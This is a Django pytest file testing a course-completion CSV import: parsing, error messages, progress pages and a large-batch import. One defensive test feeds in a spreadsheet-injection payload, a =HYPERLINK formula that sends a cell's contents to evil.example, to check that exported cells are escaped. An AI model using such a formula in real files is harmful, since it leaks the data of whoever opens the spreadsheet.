"""Completion CSVs: reading them, the background check with its preview, and the import."""

import time

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from certify.core.errors import DomainError
from certify.courses import services
from certify.courses.models import CompletionImport, CourseCompletion, UnmatchedCompletion
from certify.courses.numbers import candidate_number
from certify.courses.services import imports
from tests.courses.conftest import csv_upload, enrol


def test_headings_are_recognised_as_people_write_them():
    rows = services.csv_rows_parse(
        "\ufeffE-mail,Candidate Number,Name,Completion date,Ref\n"
        "a@example.org,,Ann Lee,2026-03-01,S1\n"
        "\n"
        ",LSSCP-C-000007,Ben,2026-03-02,\n"
    )
    assert [(r.line, r.email, r.candidate_number, r.completed_on) for r in rows] == [
        (2, "a@example.org", "", "2026-03-01"),
        (4, "", "LSSCP-C-000007", "2026-03-02"),
    ]
    assert rows[0].full_name == "Ann Lee"
    assert rows[0].reference == "S1"


def test_semicolons_and_older_excel_encodings_are_read():
    text = "email;completed_on;full_name\nzoë@example.org;2026-03-01;Zoë\n"
    rows = services.csv_rows_parse(imports._decode(text.encode("cp1252")))
    assert rows[0].full_name == "Zoë"
    assert rows[0].completed_on == "2026-03-01"


def test_a_file_without_the_needed_columns_is_explained():
    with pytest.raises(DomainError) as error:
        services.csv_rows_parse("name,date of birth\nAnn,2000-01-01\n")
    assert error.value.message == (
        "The first line must name the columns: email (or candidate_number) and completed_on. "
        "We found “name”, “date of birth”. Start from this line: "
        "email,candidate_number,full_name,completed_on,reference"
    )


def test_a_spreadsheet_saved_as_xlsx_is_refused(provider, provider_user, course):
    fake = SimpleUploadedFile("completions.csv", b"PK\x03\x04\x00\x00binary")
    with pytest.raises(DomainError, match="This is not a CSV file"):
        services.completion_import_start(
            provider=provider, course=course, actor=provider_user, upload=fake
        )


def test_a_bad_header_is_refused_at_upload_before_any_work(provider, provider_user, course):
    with pytest.raises(DomainError, match="The first line must name the columns"):
        services.completion_import_start(
            provider=provider,
            course=course,
            actor=provider_user,
            upload=csv_upload("who,when\nx,y\n"),
        )
    assert not CompletionImport.objects.exists()


def test_the_course_must_be_approved_and_the_providers_own(
    provider, provider_user, other_provider_user, course
):
    from certify.courses.models import Provider

    other = Provider.objects.get(name="Elsewhere Online School")
    with pytest.raises(DomainError, match="is not a course of Elsewhere"):
        services.completion_import_start(
            provider=other,
            course=course,
            actor=other_provider_user,
            upload=csv_upload("email,completed_on\n"),
        )


def _build_file(lsscp, course, *, rows: int, matched: int, errors: int):
    """`matched` enrolled candidates (half by e-mail, half by candidate number), `errors` bad
    rows, and the rest unknown people (kept for staff)."""
    today = timezone.localdate().isoformat()
    lines = ["email,candidate_number,full_name,completed_on,reference"]
    for i in range(matched):
        application = enrol(
            lsscp, email=f"enrolled{i}@example.org", name=f"Enrolled {i}", names=course
        )
        if i % 2:
            lines.append(f",{candidate_number(application)},Enrolled {i},{today},R{i}")
        else:
            lines.append(f"enrolled{i}@example.org,,Enrolled {i},{today},R{i}")
    for i in range(errors):
        lines.append(f"bad{i}@example.org,,Bad {i},31/12/2025,")
    for i in range(rows - matched - errors):
        lines.append(f"unknown{i}@example.org,,Unknown {i},{today},U{i}")
    return "\n".join(lines) + "\n"


def test_a_5000_row_csv_imports_with_progress_and_a_per_row_error_report(
    lsscp,
    provider,
    provider_user,
    course,
    monkeypatch,
    settings,
    django_capture_on_commit_callbacks,
):
    settings.COURSE_UNMATCHED_OPEN_LIMIT = 5000  # the speed of keeping thousands for staff
    text = _build_file(lsscp, course, rows=5000, matched=20, errors=100)
    progress: list[int] = []
    real_progress = imports._progress

    def spy(imp, done):
        progress.append(done)
        real_progress(imp, done)

    monkeypatch.setattr(imports, "_progress", spy)

    started = time.monotonic()
    with (
        CaptureQueriesContext(connection) as check_queries,
        django_capture_on_commit_callbacks(execute=True),
    ):
        imp = services.completion_import_start(
            provider=provider, course=course, actor=provider_user, upload=csv_upload(text)
        )
    checked = time.monotonic()
    imp.refresh_from_db()
    assert imp.status == CompletionImport.Status.CHECKED
    assert (imp.total_rows, imp.rows_done) == (5000, 5000)
    assert progress == list(range(500, 5001, 500))
    assert (imp.ready_count, imp.unmatched_count, imp.error_count) == (20, 4880, 100)
    assert len(imp.preview) == 20
    assert imp.errors[0]["line"] == 22
    assert "“31/12/2025” is not a date we understand" in imp.errors[0]["message"]
    assert not CourseCompletion.objects.exists()  # nothing recorded before confirmation
    assert len(check_queries) < 60  # bulk reads: a few per 500-row chunk, none per row

    progress.clear()
    with (
        CaptureQueriesContext(connection) as apply_queries,
        django_capture_on_commit_callbacks(execute=True),
    ):
        services.completion_import_confirm(imp=imp, actor=provider_user, keep_unmatched=True)
    done = time.monotonic()
    imp.refresh_from_db()
    assert imp.status == CompletionImport.Status.DONE
    assert progress == list(range(500, 5001, 500))
    assert (imp.created_count, imp.unmatched_count, imp.error_count) == (20, 4880, 100)
    assert CourseCompletion.objects.filter(import_batch=imp, status="confirmed").count() == 20
    assert UnmatchedCompletion.objects.filter(import_batch=imp).count() == 4880
    # Per matched candidate: the plan and a notification; otherwise a few queries per chunk.
    # A bounded number per recorded completion: each satisfies a set, which issues that set's
    # own credential (a status index, the signing key, the audit row and its event), and each
    # event's delivery to the webhooks' fan-out (which finds no endpoint here).
    assert len(apply_queries) < 60 + 80 * 20
    # The time is printed, not asserted (a busy machine took 36 s): the query counts above are
    # what keeps the work per row bounded.
    print(f"\n5,000 rows: checked in {checked - started:.1f} s, imported in {done - checked:.1f} s")


def test_an_interrupted_import_runs_again_without_doubling_anything(
    lsscp, provider, provider_user, course, django_capture_on_commit_callbacks
):
    text = _build_file(lsscp, course, rows=30, matched=4, errors=2)
    with django_capture_on_commit_callbacks(execute=True):
        imp = services.completion_import_start(
            provider=provider, course=course, actor=provider_user, upload=csv_upload(text)
        )
    with django_capture_on_commit_callbacks(execute=True):
        services.completion_import_confirm(imp=imp, actor=provider_user, keep_unmatched=True)
    # As if the worker died after recording everything but before marking the import done.
    CompletionImport.objects.filter(pk=imp.pk).update(status=CompletionImport.Status.IMPORTING)
    imp = services.completion_import_apply(import_id=imp.pk)
    assert imp.status == CompletionImport.Status.DONE
    assert (imp.created_count, imp.duplicate_count) == (0, 4)
    assert CourseCompletion.objects.count() == 4
    assert UnmatchedCompletion.objects.count() == 24


def test_nothing_to_import_is_said_before_anything_runs(
    provider, provider_user, course, django_capture_on_commit_callbacks
):
    today = timezone.localdate().isoformat()
    with django_capture_on_commit_callbacks(execute=True):
        imp = services.completion_import_start(
            provider=provider,
            course=course,
            actor=provider_user,
            upload=csv_upload(f"email,completed_on\nnot-an-email,{today}\n"),
        )
    imp.refresh_from_db()
    with pytest.raises(DomainError, match="Nothing to import"):
        services.completion_import_confirm(imp=imp, actor=provider_user)
    services.completion_import_cancel(imp=imp, actor=provider_user)
    imp.refresh_from_db()
    assert imp.status == CompletionImport.Status.CANCELLED
    # Certify's check and the provider's cancelling are moves, each on the record; the refused
    # start left nothing behind.
    from certify.core.models import AuditEvent

    moves = AuditEvent.objects.filter(target_id=str(imp.pk), verb__startswith="completion_import.")
    assert [(e.verb, e.actor, e.data["via"]) for e in moves.order_by("pk")] == [
        ("completion_import.checked", None, "system"),
        ("completion_import.cancelled", provider_user, "person"),
    ]


# --- The pages -----------------------------------------------------------------------------------


def test_the_provider_uploads_sees_progress_then_the_preview_and_imports(
    client, lsscp, provider, provider_user, course, django_capture_on_commit_callbacks
):
    today = timezone.localdate().isoformat()
    enrol(lsscp, email="ann@example.org", name="Ann", names=course)
    client.force_login(provider_user)
    url = reverse("courses:imports", args=[provider.pk])
    text = (
        "email,full_name,completed_on\n"
        f"ann@example.org,Ann,{today}\n"
        f"stranger@example.org,A Stranger,{today}\n"
        "bad@example.org,Bad,yesterday\n"
    )
    # Upload without running the task: the page shows a progress bar that polls every 2 s.
    response = client.post(url, {"course": course.pk, "file": csv_upload(text)})
    imp = CompletionImport.objects.get()
    # The upload's own page, at `#main`: not the form's `#upload-errors` (ADR 0043).
    assert response.url == imp.get_absolute_url() + "#main"
    page = client.get(response.url).text
    assert 'hx-trigger="every 2s"' in page
    assert "Checking the rows" in page
    progress_url = reverse("courses:import_progress", args=[provider.pk, imp.pk])
    assert "HX-Redirect" not in client.get(progress_url, headers={"HX-Request": "true"})

    imports.completion_import_check(import_id=imp.pk)
    finished = client.get(progress_url, headers={"HX-Request": "true"})
    assert finished["HX-Redirect"] == imp.get_absolute_url()
    page = client.get(imp.get_absolute_url()).text
    assert "Import 1 completion and keep 1 for staff" in page
    assert "“yesterday” is not a date we understand" in page
    assert 'hx-trigger="every 2s"' not in page
    # The stranger's row says why it did not match (the rule, nothing about anyone), and each
    # row is a card on a phone, its cells labeled (a scrolling table hid "What happens").
    assert "Not matched: kept for program staff. A row matches a candidate who named" in page
    assert page.count('<table class="stack">') == 2
    assert '<td data-label="What happens">' in page
    assert '<td data-label="Problem">' in page

    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("courses:import_confirm", args=[provider.pk, imp.pk]))
    page = client.get(imp.get_absolute_url()).text
    assert "Imported" in page
    report = client.get(reverse("courses:import_errors", args=[provider.pk, imp.pk]))
    assert report["Content-Type"].startswith("text/csv")
    assert "4,bad@example.org,,Bad,yesterday,," in report.content.decode()


def test_a_wrong_file_is_explained_on_the_upload_page_and_the_course_kept(
    client, provider, provider_user, course
):
    client.force_login(provider_user)
    response = client.post(
        reverse("courses:imports", args=[provider.pk]),
        {"course": course.pk, "file": csv_upload("who,when\n")},
    )
    assert response.status_code == 400
    assert "The first line must name the columns" in response.text
    assert f'<option value="{course.pk}" selected>' in response.text


def test_the_example_file_is_a_valid_import(client, db):  # its number: the programs run
    content = client.get(reverse("courses:import_template")).content
    assert len(services.csv_rows_parse(imports._decode(content))) == 2


def test_the_upload_history_keeps_a_fixed_number_of_queries(
    client, provider, provider_user, course
):
    from tests.conftest import count_queries

    client.force_login(provider_user)
    url = reverse("courses:imports", args=[provider.pk])
    for _ in range(2):
        CompletionImport.objects.create(provider=provider, course=course, uploaded_by=provider_user)
    few = count_queries(lambda: client.get(url))
    for _ in range(5):
        CompletionImport.objects.create(provider=provider, course=course, uploaded_by=provider_user)
    assert count_queries(lambda: client.get(url)) == few


def test_the_error_file_never_hands_a_spreadsheet_a_formula(
    client, provider, provider_user, course
):
    """The refused rows come back as typed, but a cell a spreadsheet would run (=, +, -, @, a tab
    or a carriage return first) starts with an apostrophe, as in every other export."""
    client.force_login(provider_user)
    text = (
        "email,full_name,completed_on,reference\n"
        '=HYPERLINK("https://evil.example/?"&A1),@SUM(1+1),yesterday,+1-2\n'
        "-2+3@example.org,\tTab,=1+1,ok\n"
    )
    client.post(
        reverse("courses:imports", args=[provider.pk]),
        {"course": course.pk, "file": csv_upload(text)},
    )
    imp = CompletionImport.objects.get()
    imports.completion_import_check(import_id=imp.pk)
    report = client.get(reverse("courses:import_errors", args=[provider.pk, imp.pk]))
    import csv
    import io

    rows = list(csv.reader(io.StringIO(report.content.decode())))[1:]
    assert len(rows) == 2
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert rows[0][1] == '\'=HYPERLINK("https://evil.example/?"&A1)'
    assert rows[0][3] == "'@SUM(1+1)"
    assert rows[0][5] == "'+1-2"


def test_a_quote_never_closed_fails_the_check_in_words(provider, provider_user, course):
    """A quote opened and never closed makes the rest of the file one field: past the csv
    module's 131,072 characters it raised `csv.Error`, which stopped the background check
    with the import left "Checking the rows" and the page polling for ever."""
    today = timezone.localdate().isoformat()
    imp = services.completion_import_start(
        provider=provider,
        course=course,
        actor=provider_user,
        upload=csv_upload(
            "email,full_name,completed_on\n"
            f'ann@example.org,"Ann,{today}\n' + f"bo@example.org,Bo,{today}\n" * 10_000
        ),
    )
    imp = imports.completion_import_check(import_id=imp.pk)
    assert imp.status == CompletionImport.Status.FAILED
    assert imp.failure == (
        'Line 2 could not be read: a quote (") opens a cell there and is never closed, so the '
        "rest of the file ran into that cell. Close or remove the quote and upload the file again."
    )


def test_each_refused_row_names_its_line_its_column_as_headed_and_what_to_change(
    client, lsscp, provider, provider_user, course, django_capture_on_commit_callbacks
):
    """The provider's own headings come back with each refused row, and every message says
    what to change: the same row twice, another program's candidate, a date we cannot read."""
    today = timezone.localdate().isoformat()
    enrol(lsscp, email="ann@example.org", name="Ann Lee", names=course)
    text = (
        "E-mail,Candidate No,Name,Completion date\n"
        f"ann@example.org,,Ann Lee,{today}\n"
        f"ann@example.org,,Ann Lee,{today}\n"
        f",CPLA-C-7K3Q9M2X,Sam Roe,{today}\n"
        "bo@example.org,,Bo Park,31/12/2025\n"
    )
    with django_capture_on_commit_callbacks(execute=True):
        imp = services.completion_import_start(
            provider=provider, course=course, actor=provider_user, upload=csv_upload(text)
        )
    imp.refresh_from_db()
    twice, other_program, bad_date = imp.errors
    assert (twice["line"], twice["column"]) == (3, "E-mail")
    assert twice["message"] == (
        "The same candidate is on line 2: report each candidate once, so remove one of the two "
        "rows."
    )
    assert (other_program["line"], other_program["column"]) == (4, "Candidate No")
    assert (
        "of another program, not LSSCP: this course counts for LSSCP" in (other_program["message"])
    )
    assert "remove the row" in other_program["message"]
    assert (bad_date["line"], bad_date["column"]) == (5, "Completion date")

    client.force_login(provider_user)
    page = client.get(imp.get_absolute_url()).text
    assert '<th scope="col">Column</th>' in page
    assert '<td data-label="Column">Completion date</td>' in page
    report = client.get(reverse("courses:import_errors", args=[provider.pk, imp.pk]))
    lines = report.content.decode().splitlines()
    assert lines[0] == ("line,email,candidate_number,full_name,completed_on,reference,column,error")
    assert lines[-1].startswith("5,bo@example.org,,Bo Park,31/12/2025,,Completion date,")


def test_a_row_after_the_approval_ended_says_to_renew_it(
    lsscp, provider, provider_user, ct, django_capture_on_commit_callbacks
):
    """Four years on, a completion after the approval's last day is refused in words that say
    when it ended and what the provider can do."""
    today = timezone.localdate().isoformat()
    from datetime import timedelta

    from tests.courses.conftest import approved_course

    on = timezone.localdate() - timedelta(days=365 * 4 + 30)
    lapsed = approved_course(provider=provider, competency_set=ct, on=on, title="Old Desk")
    enrol(lsscp, email="ann@example.org", name="Ann Lee", names=None)
    text = f"email,full_name,completed_on\nann@example.org,Ann Lee,{today}\n"
    with django_capture_on_commit_callbacks(execute=True):
        imp = services.completion_import_start(
            provider=provider, course=lapsed, actor=provider_user, upload=csv_upload(text)
        )
    imp.refresh_from_db()
    (error,) = imp.errors
    ended = lapsed.approval_expires_on
    assert f"The approval of this course ended on {ended:%B %-d, %Y}" in error["message"]
    assert "renew it from the course's page" in error["message"]
    assert error["column"] == "completed_on"
